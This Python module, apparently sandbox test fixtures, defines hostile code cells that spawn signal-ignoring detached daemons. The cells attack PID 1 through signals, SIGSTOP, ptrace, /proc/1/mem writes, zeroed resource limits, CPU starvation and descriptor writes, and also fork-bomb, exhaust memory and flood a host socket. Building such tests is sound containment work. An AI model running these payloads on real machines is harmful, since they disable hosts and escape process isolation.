"""What a hostile cell does to live longer than its owner.

Each is code for a cell that returns while its daemons go on.
"""

from __future__ import annotations

_TOOLS = '''
import ctypes, fcntl, os, resource, signal, socket, struct, time
libc = ctypes.CDLL(None, use_errno=True)

def daemon(action, count=1):
    """Orphans in sessions of their own, deaf to what can be ignored, which do `action` again and again whatever comes of it."""
    for _ in range(count):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
                    signal.signal(number, signal.SIG_IGN)
                while True:
                    try:
                        action()
                    except BaseException:
                        pass
            os._exit(0)
        os.wait()

told = []

def on():
    """Tell the host that the attack goes on, once: it sees the connection."""
    if not told:
        told.append(socket.socket(socket.AF_UNIX))
        told[0].connect("/rlm/run/host")
'''

STOP, LIMITS = "stop for all processes", "limits of the first process"
_ATTACKS = {
    "signals to the first process": """
def attack():
    for number in set(signal.valid_signals()) - {signal.SIGTERM}:
        os.kill(1, number)
    on()
daemon(attack, 3)
""",
    STOP: """
def attack():
    time.sleep(0.2)
    os.kill(1, signal.SIGSTOP)
    os.kill(-1, signal.SIGSTOP)
    on()
daemon(attack)
""",
    "ptrace and memory of the first process": """
def attack():
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        libc.ptrace(request, 1, 0, 0)
    on()
    open("/proc/1/mem", "r+b").write(bytes(4096))
daemon(attack, 3)
""",
    LIMITS: """
def attack():
    for name in dir(resource):
        if name.startswith("RLIMIT_") and name != "RLIMIT_CPU":
            try:
                resource.prlimit(1, getattr(resource, name), (0, 0))
            except (OSError, ValueError):
                pass
    on()
    time.sleep(1)
daemon(attack)
""",
    "no share of the CPU for the first process": """
def starve():
    # struct sched_attr: a slice of 100 ms, then no claim to one.
    libc.syscall(314, 1, struct.pack("IIQiIQQQ", 48, 0, 0, 19, 0, 100_000_000, 0, 0), 0)
    for call in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.setpriority(os.PRIO_USER, 0, 19),
                 lambda: os.sched_setaffinity(1, {0}), lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))):
        try:
            call()
        except OSError:
            pass
    on()
    time.sleep(1)
def busy():
    os.sched_setaffinity(0, {0})
    while True:
        pass
daemon(busy, 200)
daemon(starve)
""",
    "the descriptors of the first process": """
def attack():
    for number in range(16):
        for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
            try:
                os.write(os.open(f"/proc/1/fd/{number}", flags), bytes(100_000))
            except OSError:
                pass
        libc.syscall(438, os.pidfd_open(1), number, 0)
    on()
    time.sleep(0.01)
daemon(attack, 5)
""",
    "connections without end": """
def attack():
    made = []
    on()
    while len(made) < 2_000:
        one = socket.socket(socket.AF_UNIX)
        one.setblocking(False)
        one.connect("/rlm/run/host")
        made.append(one)
        one.send(os.urandom(100_000))
daemon(attack, 5)
""",
    "daemons in sessions of their own": """
def attack():
    on()
    time.sleep(100)
daemon(attack, 50)
""",
    "memory up to the limit": """
def files():
    for place in ("/tmp", "/dev/shm"):
        try:
            with open(f"{place}/{os.getpid()}", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    on()
    time.sleep(1)
def heap():
    open("/proc/self/oom_score_adj", "w").write("1000")
    if (child := os.fork()) == 0:
        kept = []
        while True:
            kept.append(b"x" * (1 << 20))
    os.waitpid(child, 0)
daemon(files)
daemon(heap, 3)
""",
    "no process left to be had": """
def attack():
    try:
        if os.fork() == 0:
            time.sleep(1000)
    except OSError:
        on()
        time.sleep(0.01)
daemon(attack)
""",
    "orphans that end without end": """
def attack():
    on()
    if os.fork() == 0:
        os._exit(0) if os.fork() else os._exit(0)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    os.kill(1, signal.SIGCHLD)
daemon(attack, 5)
""",
}
_TOGETHER = [code for name, code in _ATTACKS.items() if name not in (STOP, LIMITS)]  # these end it
_ATTACKS["all of these"] = "".join(_TOGETHER)
ATTACKS = {name: _TOOLS + code for name, code in _ATTACKS.items()}
"""Cells by what they do; each connects to the host as soon as it goes on."""

HOLD_THE_GIL = "import itertools\nsum(itertools.repeat(1))"
